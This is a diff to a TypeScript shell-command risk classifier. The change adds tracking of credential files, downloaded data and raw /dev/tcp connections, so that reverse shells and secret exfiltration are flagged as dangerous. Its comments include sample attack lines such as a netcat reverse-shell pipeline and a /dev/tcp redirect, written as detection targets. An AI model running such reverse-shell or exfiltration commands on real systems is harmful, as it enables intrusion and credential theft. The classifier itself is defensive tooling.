@@ -9,20 +9,16 @@
 // `eval`, `su -c`, `ssh host cmd`, heredocs fed to shells, `python -c` shell-outs, ...). The
 // per-command knowledge lives in ./command-rules.ts.
 import sh, { type ShNode } from 'mvdan-sh';
+import { litArg, type Arg, type CommandView, type Produced, type RedirectInfo, type RuleContext, type Stdin } from './command-args.js';
+import { SHELL_BUILTINS } from './command-builtins.js';
+import { envFinding } from './command-env.js';
+import { copyTargets, downloadTargets, extracts, isNetworkSink, NETWORK_SINKS, secretOutput } from './command-flow.js';
+import { applyToolOptions } from './command-helpers.js';
+import { changeDir, containsSecrets, isSecretPath, normPath, outsidePath, writeFinding } from './command-paths.js';
+import { knowsReads, readPaths } from './command-reads.js';
+import { procSysWrite } from './command-system.js';
 import { loadLines } from './corpus.js';
-import {
-  SAFE_COMMANDS,
-  litArg,
-  normPath,
-  ruleFor,
-  writeFinding,
-  type Arg,
-  type CommandView,
-  type Produced,
-  type RedirectInfo,
-  type RuleContext,
-  type Stdin,
-} from './command-rules.js';
+import { RULES, SAFE_COMMANDS, isShell, interpreterKind, ruleFor } from './command-rules.js';
 
 export type Tier = 'safe' | 'caution' | 'dangerous' | 'blocked';
 
@@ -174,9 +170,49 @@ interface Shared {
   /** Names of shell functions defined in the command line. */
   funcs: Set<string>;
   /** Variables assigned from command substitutions (value unknown, origin known). */
-  taint: Map<string, { download: boolean; decoded: boolean }>;
+  taint: Map<string, Origin>;
   /** Files written earlier in the command line with statically known content (`echo ... > x.sh`). */
   files: Map<string, string>;
+  /** Files this command line filled with credential material, and what it was. */
+  secretFiles: Map<string, string>;
+  /** Files this command line wrote from a download or from decoded data. */
+  fetchedFiles: Map<string, 'download' | 'decoded'>;
+  /** A fetched archive or a clone was unpacked into the workspace: its files are downloads too. */
+  fetchedTree: boolean;
+  /** The folder commands run in, relative to the workspace; 'outside' after a `cd` out of it. */
+  cwd: string[] | 'outside';
+  /** File descriptors opened on /dev/tcp or /dev/udp (`exec 3<>/dev/tcp/host/port`). */
+  netFds: Set<string>;
+}
+
+/** Where a substitution's output (or a variable holding it) came from. */
+interface Origin {
+  download: boolean;
+  decoded: boolean;
+  secret?: string;
+}
+
+/** What one simple command reads and writes, collected while its rule runs. */
+interface Frame {
+  /** Credential material among its inputs. */
+  secret?: string;
+  /** Files it writes (from option tables and rules). */
+  outputs: string[];
+}
+
+function newShared(sink: Sink): Shared {
+  return {
+    sink,
+    vars: new Map(),
+    funcs: new Set(),
+    taint: new Map(),
+    files: new Map(),
+    secretFiles: new Map(),
+    fetchedFiles: new Map(),
+    fetchedTree: false,
+    cwd: [],
+    netFds: new Set(),
+  };
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -341,10 +377,28 @@ interface WordState {
   decoded: boolean;
   quoted: boolean;
   glob: boolean;
+  secret: string | undefined;
 }
 
 // ---------------------------------------------------------------------------------------------
 // The walker
+
+/** What two commands run one after the other produce together (for lists, blocks, branches). */
+function merged(a: Produced, b: Produced): Produced {
+  return { download: a.download || b.download, decoded: a.decoded || b.decoded, secret: a.secret ?? b.secret, text: b.text };
+}
+
+/** A function of this name would hide a command or builtin. */
+function shadowsCommand(name: string): boolean {
+  return (
+    SHELL_BUILTINS.has(name) ||
+    SAFE_COMMANDS.has(name) ||
+    Object.prototype.hasOwnProperty.call(RULES, name) ||
+    isShell(name) ||
+    interpreterKind(name) !== undefined ||
+    PRIVILEGE.has(name)
+  );
+}
 
 /** "inner in outer", keeping at most the innermost two and the outermost context. */
 function joinLabel(inner: string, outer: string): string {
@@ -377,7 +431,50 @@ class Analyzer {
           privileged: !!extra?.privileged,
           viaXargs: !!extra?.viaXargs,
         }),
+      reads: (path, what, recursive) => this.noteRead(path, recursive),
+      writes: (path) => void this.frame?.outputs.push(path),
+      fetched: (path) => this.fetchedOf(path),
+      isSecret: (path, recursive) => this.secretOf(path, recursive) !== undefined,
     };
+  }
+
+  /** The current simple command's inputs and outputs (see dispatch). */
+  private frame: Frame | undefined;
+
+  /** The key a file is remembered under: normalised, relative paths taken from the current folder. */
+  private fileKey(path: string): string {
+    const p = normPath(path);
+    if (p.startsWith('/') || p.startsWith('~') || p.startsWith('$') || this.shared.cwd === 'outside' || !this.shared.cwd.length) return p;
+    const joined = changeDir(this.shared.cwd, p);
+    return joined === 'outside' ? p : joined.join('/');
+  }
+
+  /** Credential material at `path` (or a file this line filled with some): what it is. */
+  private secretOf(path: string, recursive = false): string | undefined {
+    if (!path || path === '-') return undefined;
+    if (isSecretPath(path) || (recursive && containsSecrets(path))) return normPath(path);
+    return this.shared.secretFiles.get(this.fileKey(path));
+  }
+
+  /** Whether this command line wrote `path` from a download or decoded data. */
+  private fetchedOf(path: string): 'download' | 'decoded' | undefined {
+    if (!path) return undefined;
+    const known = this.shared.fetchedFiles.get(this.fileKey(path));
+    if (known) return known;
+    if (this.shared.fetchedTree && !path.startsWith('$') && outsidePath(path, this.shared.cwd) === undefined) return 'download';
+    return undefined;
+  }
+
+  /** A read of `path`: outside the workspace is caution, credential material taints the command's output. */
+  private noteRead(path: string, recursive = false, contents = true): string | undefined {
+    const out = outsidePath(path, this.shared.cwd);
+    if (out !== undefined) this.add('caution', `reads outside the workspace (${out})`);
+    const secret = contents ? this.secretOf(path, recursive) : undefined;
+    if (secret) {
+      this.add('caution', `reads credential material (${secret})`);
+      if (this.frame) this.frame.secret ??= secret;
+    }
+    return secret;
   }
 
   add(tier: Tier, reason: string): void {
@@ -422,22 +519,24 @@ class Analyzer {
   // -- statements ------------------------------------------------------------------------------
 
   visitStmts(stmts: Raw, stdin?: Stdin): Produced {
-    const out: Produced = {};
+    let out: Produced = {};
     for (const st of items(stmts)) {
       const p = this.visitStmt(st, stdin);
-      out.download ||= p.download;
-      out.decoded ||= p.decoded;
-      out.text = p.text;
+      out = { ...merged(out, p), text: p.text };
     }
     return out;
   }
 
   visitStmt(stmt: Raw, stdin?: Stdin): Produced {
     if (isNil(stmt)) return {};
+    if (stmt.Background) this.add('caution', 'runs a command in the background (&), where it outlives the command line');
     const redirs: RedirectInfo[] = [];
+    /** Output redirects: where the command's output lands, once it is known. */
+    const outs: { target: string; fd: string; append: boolean; net: boolean }[] = [];
     let input = stdin;
     for (const r of items(stmt.Redirs)) {
       const op = r.Op as number;
+      const fd = r.N && !isNil(r.N) ? gstr(r.N.Value) : '';
       if (op === R_HEREDOC || op === R_HEREDOC_TABS) {
         const hasBody = !isNil(r.Hdoc);
         const text = hasBody ? this.heredocBody(r.Hdoc) : '';
@@ -448,32 +547,41 @@ class Analyzer {
       const args = isNil(r.Word) ? [] : this.evalWord(r.Word);
       const target = args.map((a) => a.text).join(' ');
       const dynamic = args.some((a) => a.dynamic);
+      const tcp = /^\/dev\/(?:tcp|udp)\//.test(target);
+      if (tcp) this.shared.netFds.add(fd || (op === R_IN || op === R_RDWR ? '0' : '1'));
       if (op === R_HERESTRING) {
         input = {
           source: 'herestring',
           download: args.some((a) => a.substDownload),
           decoded: args.some((a) => a.substDecoded),
           text: dynamic && args.some((a) => a.subst) ? undefined : target,
+          secret: args.find((a) => a.secret)?.secret,
         };
         continue;
       }
       if (op === R_IN) {
-        const tcp = /^\/dev\/(?:tcp|udp)\//.test(target);
         if (tcp) this.add('caution', `opens a network connection (${target})`);
+        const secret = tcp ? undefined : this.noteRead(target);
         input = {
           source: 'file',
-          download: tcp || args.some((a) => a.substDownload),
-          decoded: args.some((a) => a.substDecoded),
+          download: tcp || args.some((a) => a.substDownload) || this.fetchedOf(target) === 'download',
+          decoded: args.some((a) => a.substDecoded) || this.fetchedOf(target) === 'decoded',
           path: target,
+          secret,
         };
-        redirs.push({ kind: 'in', target });
+        redirs.push({ kind: 'in', target, net: tcp });
         continue;
       }
       if (op === R_DUP_IN || (op === R_DUP_OUT && /^(?:\d+|-|\d+-)$/.test(target))) {
-        redirs.push({ kind: 'dup', target });
+        const net = this.shared.netFds.has(target.replace(/-$/, ''));
+        redirs.push({ kind: 'dup', target, net });
+        if (net && op === R_DUP_OUT) outs.push({ target: `/dev/tcp (fd ${target})`, fd, append: false, net: true });
+        if (net && op === R_DUP_IN && (fd === '' || fd === '0')) input = { source: 'file', download: true, decoded: false, path: `/dev/tcp (fd ${target})` };
         continue;
       }
-      redirs.push({ kind: 'out', target });
+      redirs.push({ kind: 'out', target, net: tcp });
+      if (op === R_RDWR && tcp && (fd === '' || fd === '0')) input = { source: 'file', download: true, decoded: false, path: target };
+      outs.push({ target, fd, append: op === R_APPEND || op === R_ALL_APPEND, net: tcp });
       const verb =
         op === R_APPEND || op === R_ALL_APPEND ? 'redirect appends to' : op === R_RDWR ? 'redirect opens for writing' : 'redirect overwrites';
       const f = writeFinding(target, verb, dynamic);
@@ -481,7 +589,7 @@ class Analyzer {
     }
     if (isNil(stmt.Cmd)) return {};
     const produced = this.visitCmd(stmt.Cmd, input, redirs);
-    // Remember what was written where, so `bash x.sh` / `./x.sh` later in the line can be checked.
+    // Remember what was written where, so `bash x.sh` / `./x.sh` / an upload later in the line can be checked.
     for (const r of items(stmt.Redirs)) {
       const op = r.Op as number;
       if (op !== R_OUT && op !== R_APPEND && op !== R_CLOBBER && op !== R_ALL_OUT && op !== R_ALL_APPEND) continue;
@@ -490,6 +598,20 @@ class Analyzer {
       const prev = op === R_APPEND || op === R_ALL_APPEND ? (this.shared.files.get(target) ?? '') : '';
       if (produced.text !== undefined) this.shared.files.set(target, `${prev}${produced.text}\n`);
       else this.shared.files.set(target, `${prev}\n# (unknown content)\n`);
+    }
+    for (const o of outs) {
+      if (o.fd === '2') continue;
+      if (o.net) {
+        if (produced.secret) this.add('dangerous', `sends credential material over a raw network connection (${produced.secret} → ${o.target})`);
+        continue;
+      }
+      const key = this.fileKey(o.target);
+      if (produced.secret) this.shared.secretFiles.set(key, produced.secret);
+      else if (!o.append) this.shared.secretFiles.delete(key);
+      if (produced.download) this.shared.fetchedFiles.set(key, 'download');
+      else if (produced.decoded) this.shared.fetchedFiles.set(key, 'decoded');
+      else if (!o.append) this.shared.fetchedFiles.delete(key);
+      procSysWrite(normPath(o.target), produced.text, this.ctx);
     }
     return produced;
   }
@@ -503,22 +625,25 @@ class Analyzer {
         if (op === OP_PIPE || op === OP_PIPE_ALL) return this.visitPipeline(cmd, stdin);
         const x = this.visitStmt(cmd.X, stdin);
         const y = this.visitStmt(cmd.Y, stdin);
-        return { download: x.download || y.download, decoded: x.decoded || y.decoded, text: y.text };
+        return { ...merged(x, y), text: y.text };
       }
-      case 'Subshell':
+      case 'Subshell': {
+        const cwd = this.shared.cwd; // a subshell's cd does not outlive it
+        const out = this.visitStmts(cmd.Stmts, stdin);
+        this.shared.cwd = cwd;
+        return out;
+      }
       case 'Block':
         return this.visitStmts(cmd.Stmts, stdin);
       case 'IfClause': {
         let c = cmd;
-        const out: Produced = {};
+        let out: Produced = {};
         for (let guard = 0; !isNil(c) && guard < 1000; guard++) {
           this.visitStmts(c.Cond, stdin);
-          const p = this.visitStmts(c.Then, stdin);
-          out.download ||= p.download;
-          out.decoded ||= p.decoded;
+          out = merged(out, this.visitStmts(c.Then, stdin));
           c = c.Else;
         }
-        return out;
+        return { ...out, text: undefined };
       }
       case 'WhileClause':
         this.visitStmts(cmd.Cond, stdin);
@@ -537,25 +662,25 @@ class Analyzer {
       }
       case 'CaseClause': {
         if (!isNil(cmd.Word)) this.evalWord(cmd.Word);
-        const out: Produced = {};
+        let out: Produced = {};
         for (const item of items(cmd.Items)) {
           for (const p of items(item.Patterns)) this.visitSubstsIn(p);
-          const p = this.visitStmts(item.Stmts, stdin);
-          out.download ||= p.download;
-          out.decoded ||= p.decoded;
+          out = merged(out, this.visitStmts(item.Stmts, stdin));
         }
-        return out;
+        return { ...out, text: undefined };
       }
       case 'FuncDecl': {
         const name = litValue(cmd.Name);
-        if (name) this.shared.funcs.add(name);
+        if (name) {
+          this.shared.funcs.add(name);
+          if (shadowsCommand(name)) this.add('caution', `defines a function that shadows the command '${name}'`);
+        }
         this.checkForkBomb(cmd, name ?? '');
         this.visitStmt(cmd.Body);
         return {};
       }
       case 'DeclClause':
-        this.visitDecl(cmd);
-        return {};
+        return this.visitDecl(cmd);
       case 'TimeClause':
         return this.visitStmt(cmd.Stmt, stdin);
       case 'CoprocClause':
@@ -591,14 +716,21 @@ class Analyzer {
     flatten(cmd.Y);
     let download = false;
     let decoded = false;
+    let secret: string | undefined;
+    let shellStage = -1;
     let prev: Produced = {};
     for (let i = 0; i < stages.length; i++) {
-      const input: Stdin | undefined = i === 0 ? stdin : { source: 'pipe', download, decoded, text: prev.text };
+      const input: Stdin | undefined = i === 0 ? stdin : { source: 'pipe', download, decoded, text: prev.text, secret };
       prev = this.visitStmt(stages[i], input);
       download ||= !!prev.download;
       decoded ||= !!prev.decoded;
+      secret ??= prev.secret;
+      // A shell running whatever arrives on its stdin, with its output piped on to a network tool,
+      // is a reverse shell (the fifo form: cat f | sh -i 2>&1 | nc host port > f).
+      if (prev.net && shellStage >= 0) this.add('dangerous', 'pipes a shell\'s output to a network tool (reverse shell)');
+      if (prev.runsInput && shellStage < 0) shellStage = i;
     }
-    return { download, decoded, text: prev.text };
+    return { download, decoded, text: prev.text, secret };
   }
 
   private visitCall(cmd: Raw, stdin: Stdin | undefined, redirs: RedirectInfo[]): Produced {
@@ -610,26 +742,39 @@ class Analyzer {
     return this.runArgv(argv, { stdin, redirs, privileged: false, viaXargs: false });
   }
 
-  private visitDecl(cmd: Raw): void {
+  private visitDecl(cmd: Raw): Produced {
+    const flags: string[] = [];
+    let assigned = 0;
     for (const as of items(cmd.Args)) {
       if (as.Naked) {
-        if (isNil(as.Name) && !isNil(as.Value)) this.evalWord(as.Value);
+        if (isNil(as.Name) && !isNil(as.Value)) flags.push(...this.evalWord(as.Value).map((a) => a.text));
+        else assigned++;
         continue;
       }
+      assigned++;
       this.visitAssign(as, true);
     }
+    const variant = litValue(cmd.Variant) ?? '';
+    if (flags.some((f) => /^-[a-zA-Z]*f/.test(f)) && (variant === 'export' || flags.some((f) => /^-[a-zA-Z]*x/.test(f)))) {
+      this.add('caution', `exports shell functions to child programs (${variant} ${flags.join(' ')})`);
+    }
+    // `export -p`, `declare -p`, bare `export`/`declare`: prints every variable.
+    const secret = assigned === 0 ? secretOutput(variant, flags.map((f) => litArg(f))) : undefined;
+    return secret ? { secret } : {};
   }
 
   private visitAssign(as: Raw, persistent: boolean): void {
     const name = litValue(as.Name);
     let value = '';
     let dynamic = false;
-    let origin: { download: boolean; decoded: boolean } | undefined;
+    let origin: Origin | undefined;
     if (!isNil(as.Value)) {
       const parts = this.evalWord(as.Value, true);
       value = parts.map((p) => p.text).join(' ');
       dynamic = parts.some((p) => p.dynamic);
-      if (parts.some((p) => p.subst)) origin = { download: parts.some((p) => p.substDownload), decoded: parts.some((p) => p.substDecoded) };
+      if (parts.some((p) => p.subst)) {
+        origin = { download: parts.some((p) => p.substDownload), decoded: parts.some((p) => p.substDecoded), secret: parts.find((p) => p.secret)?.secret };
+      }
     }
     const isArray = !isNil(as.Array);
     if (isArray) this.visitSubstsIn(as.Array);
@@ -645,21 +790,7 @@ class Analyzer {
   }
 
   private checkVariable(name: string, value: string, dynamic: boolean): void {
-    if (name === 'HISTFILE') {
-      if (value === '' || normPath(value) === '/dev/null') this.add('dangerous', `disables shell history (HISTFILE=${value || '""'})`);
-      else this.add('caution', `redirects shell history (HISTFILE=${value})`);
-    } else if ((name === 'HISTSIZE' || name === 'HISTFILESIZE' || name === 'SAVEHIST') && /^0*$/.test(value) && !dynamic) {
-      this.add('dangerous', `disables shell history (${name}=${value || '""'})`);
-    } else if (/^(?:LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|DYLD_INSERT_LIBRARIES|DYLD_LIBRARY_PATH)$/.test(name)) {
-      this.add('caution', `injects shared libraries (${name}=${value})`);
-    } else if (/^(?:PROMPT_COMMAND|BASH_ENV|ENV|GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|PAGER|EDITOR|VISUAL|SSH_ASKPASS|SUDO_ASKPASS|GIT_ASKPASS|LESSOPEN|MANPAGER)$/.test(name)) {
-      if (value) {
-        this.add('caution', `sets ${name}, a command other programs will run`);
-        this.nested(value, name);
-      }
-    } else if (name === 'PATH' || name === 'PYTHONPATH' || name === 'NODE_OPTIONS' || name === 'PERL5OPT' || name === 'RUBYOPT') {
-      this.add('caution', `changes ${name}`);
-    }
+    envFinding(name, value, dynamic, this.ctx);
   }
 
   private checkForkBomb(fd: Raw, name: string): void {
@@ -684,7 +815,7 @@ class Analyzer {
 
   /** Expands a word into arguments; visits (and reports) any substitutions inside it. */
   evalWord(word: Raw, assign = false): Arg[] {
-    const st: WordState = { dynamic: false, subst: false, proc: false, download: false, decoded: false, quoted: false, glob: false };
+    const st: WordState = { dynamic: false, subst: false, proc: false, download: false, decoded: false, quoted: false, glob: false, secret: undefined };
     const acc: Field = { text: '', mask: '' };
     const push = (t: string, m: string): void => {
       acc.text += t;
@@ -715,6 +846,7 @@ class Analyzer {
       substDownload: st.download,
       substDecoded: st.decoded,
       substOnly,
+      secret: st.secret,
     }));
   }
 
@@ -750,6 +882,7 @@ class Analyzer {
           st.subst = true;
           st.download ||= origin.download;
           st.decoded ||= origin.decoded;
+          st.secret ??= origin.secret;
         }
         if (v === undefined) {
           st.dynamic = true;
@@ -762,6 +895,7 @@ class Analyzer {
         const prod = this.visitSubst(part.Stmts, 'command substitution');
         st.download ||= !!prod.download;
         st.decoded ||= !!prod.decoded;
+        st.secret ??= prod.secret;
         if (prod.text !== undefined && !prod.download) push(prod.text.replace(/\n+$/, ''), quoted ? 'Q' : 's');
         else {
           st.dynamic = true;
@@ -778,6 +912,7 @@ class Analyzer {
         const prod = this.visitStmts(part.Stmts, stdin);
         st.download ||= !!prod.download;
         st.decoded ||= !!prod.decoded;
+        st.secret ??= prod.secret;
         push(this.slice(part), 'd');
         return;
       }
@@ -858,6 +993,7 @@ class Analyzer {
         if (word.dynamic) return {};
       } else if (word.dynamic) {
         this.add('caution', `command name comes from a variable (${word.raw})`);
+        if (stdin?.download || o.redirs.some((r) => r.net)) this.add('dangerous', `runs commands read from the network (${word.raw})`);
         return {};
       }
       const name = cmdName(word.text);
@@ -867,6 +1003,10 @@ class Analyzer {
       switch (name) {
         case 'sudo': {
           skip = commandIndex(rest, 'ugpChrtTDUR', SUDO_LONG_ARGS, true);
+          for (const a of rest.slice(0, skip)) {
+            const m = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(a.text);
+            if (m) this.checkVariable(m[1]!, m[2]!, a.dynamic);
+          }
           if (rest.slice(0, skip).some((a) => /^-[A-Za-z]*e/.test(a.text) || a.text === '--edit')) {
             this.add('caution', 'runs with elevated privileges (sudo)');
             return this.dispatch('sudoedit', [litArg('sudoedit'), ...rest.slice(skip)], { ...o, privileged: true, viaXargs, stdin });
@@ -919,6 +1059,9 @@ class Analyzer {
           break;
         case 'nohup':
         case 'setsid':
+          this.add('caution', `detaches the command from the session (${name}), so it outlives the command line`);
+          skip = commandIndex(rest, '', [], false);
+          break;
         case 'unbuffer':
         case 'catchsegv':
         case 'torsocks':
@@ -1024,6 +1167,7 @@ class Analyzer {
           break;
       }
       if (skip < 0) return this.dispatch(name, argv.slice(i), { ...o, privileged, viaXargs, stdin });
+      this.wrapperOptions(name, rest.slice(0, skip));
       if (PRIVILEGE.has(name)) {
         privileged = true;
         this.add('caution', `runs with elevated privileges (${name})`);
@@ -1032,12 +1176,23 @@ class Analyzer {
         // wrapper without a command: env/printenv output, `sudo -l`, `sudo -i` (root shell), `nice`...
         if (name === 'sudo' && rest.some((a) => /^-[^-]*[is]/.test(a.text) || a.text === '--login' || a.text === '--shell')) this.add('caution', 'opens a root shell (sudo -i/-s)');
         if (name === 'doas' && rest.some((a) => a.text === '-s')) this.add('caution', 'opens a root shell (doas -s)');
+        if (name === 'env') {
+          const secret = secretOutput('env', rest);
+          return secret ? { secret } : {};
+        }
         return {};
       }
       i = i + 1 + skip;
     }
     this.add('caution', 'too many nested command wrappers');
     return {};
+  }
+
+  /** A wrapper's own options (sudo -D, env -C, strace -o, xargs -a, ...). */
+  private wrapperOptions(name: string, own: Arg[]): void {
+    const view: CommandView = { name, argv: [litArg(name), ...own], args: own, privileged: false, viaXargs: false, stdin: undefined, redirects: [] };
+    for (const r of readPaths(name, own)) this.noteRead(r.path, r.recursive, r.contents);
+    applyToolOptions(view, this.ctx);
   }
 
   private dispatch(name: string, argv: Arg[], o: RunOpts): Produced {
@@ -1050,15 +1205,89 @@ class Analyzer {
       stdin: o.stdin,
       redirects: o.redirs,
     };
+    const frame: Frame = { secret: o.stdin?.secret ?? view.args.find((a) => a.secret)?.secret, outputs: [] };
+    const outer = this.frame;
+    this.frame = frame;
+    try {
+      const produced = this.runCommand(view);
+      this.flowAfter(view, produced, frame);
+      return frame.secret ? { ...produced, secret: frame.secret } : produced;
+    } finally {
+      this.frame = outer;
+    }
+  }
+
+  /** The checks every command gets, then its rule. */
+  private runCommand(v: CommandView): Produced {
+    const { name, argv } = v;
+    if (name === 'cd' || name === 'pushd') this.changeDirectory(v.args);
+    const reads = readPaths(name, v.args);
+    for (const r of reads) this.noteRead(r.path, r.recursive, r.contents);
+    applyToolOptions(v, this.ctx);
+    const sink = isNetworkSink(name, v.args);
+    const printed = secretOutput(name, v.args);
+    if (printed && this.frame) this.frame.secret ??= printed;
+    if (!sink && !knowsReads(name) && this.frame && !this.frame.secret) {
+      // Any argument naming credential material taints what the command prints (base64 key.pem, tar c ~/.ssh, ...).
+      for (const a of v.args) this.frame.secret ??= this.secretOf(a.text.replace(/^[\w-]*=/, ''));
+    }
+    const shown = argv[0]!.text.includes('/') ? argv[0]!.text : name;
+    if (argv[0]!.text.includes('/')) {
+      const fetched = this.fetchedOf(argv[0]!.text);
+      if (fetched) this.add('dangerous', `runs a ${fetched === 'download' ? 'downloaded' : 'decoded'} file (${shown})`);
+    }
+    if (sink) this.checkSink(v);
     const rule = ruleFor(name);
-    if (rule) return rule(view, this.ctx) ?? {};
+    if (rule) return rule(v, this.ctx) ?? {};
     if (SAFE_COMMANDS.has(name)) return {};
     if (this.shared.funcs.has(argv[0]!.text)) return {}; // user function; its body was analysed
-    const shown = argv[0]!.text.includes('/') ? argv[0]!.text : name;
     const written = argv[0]!.text.includes('/') ? this.shared.files.get(normPath(argv[0]!.text)) : undefined;
     if (written !== undefined) this.nested(written, shown);
     this.add('caution', `runs '${shown}' (not known to be read-only)`);
     return {};
+  }
+
+  /** cd/pushd: tracks the folder commands run in; leaving the workspace is caution. */
+  private changeDirectory(args: Arg[]): void {
+    const target = args.find((a) => !/^-[LPe@]+$/.test(a.text));
+    if (target?.text === '-' || target?.dynamic) {
+      if (target.dynamic && !target.text.startsWith('$PWD')) this.shared.cwd = 'outside';
+      return;
+    }
+    const dest = target?.text ?? '~';
+    const next = changeDir(this.shared.cwd, dest);
+    if (next === 'outside') this.add('caution', `changes directory outside the workspace (${normPath(dest)})`);
+    this.shared.cwd = next;
+  }
+
+  /** A network tool that receives credential material: on stdin, in an argument, or as a file it uploads. */
+  private checkSink(v: CommandView): void {
+    const sent: string[] = [];
+    if (v.stdin?.secret) sent.push(v.stdin.secret);
+    for (const a of v.args) if (a.secret) sent.push(a.secret);
+    for (const f of NETWORK_SINKS[v.name]!(v.args).files) {
+      const s = this.noteRead(f.path, f.recursive);
+      if (s) sent.push(s);
+    }
+    if (sent.length) this.add('dangerous', `sends credential material to the network (${sent[0]} → ${v.name})`);
+  }
+
+  /** Marks the files a command wrote with what they now hold: credentials, downloads, unpacked archives. */
+  private flowAfter(v: CommandView, produced: Produced, frame: Frame): void {
+    const { name, args } = v;
+    const sources = readPaths(name, args).map((r) => r.path);
+    const sourceFetched = sources.map((p) => this.fetchedOf(p)).find((f) => f);
+    const targets = downloadTargets(name, args);
+    if (targets === 'tree') this.shared.fetchedTree = true;
+    const copies = copyTargets(name, args);
+    const isDownloader = !!produced.download && !v.stdin?.download;
+    for (const out of [...frame.outputs, ...(targets === 'tree' ? [] : targets), ...copies]) {
+      const key = this.fileKey(out);
+      if (frame.secret) this.shared.secretFiles.set(key, frame.secret);
+      const kind = isDownloader || v.stdin?.download ? 'download' : v.stdin?.decoded ? 'decoded' : sourceFetched;
+      if (kind) this.shared.fetchedFiles.set(key, kind);
+    }
+    if (extracts(name, args) && (v.stdin?.download || sourceFetched || args.some((a) => this.fetchedOf(a.text)))) this.shared.fetchedTree = true;
   }
 }
 
@@ -1170,7 +1399,7 @@ export function classifyCommand(command: string): Classification {
   const sink = new Sink();
   const src = typeof command === 'string' ? command : String(command);
   try {
-    runSource(src, { sink, vars: new Map(), funcs: new Set(), taint: new Map(), files: new Map() }, 0, '');
+    runSource(src, newShared(sink), 0, '');
   } catch (e) {
     sink.add('caution', `classifier error: ${e instanceof Error ? e.message : String(e)}`);
     rawScan(src, (t, r) => sink.add(t, r));
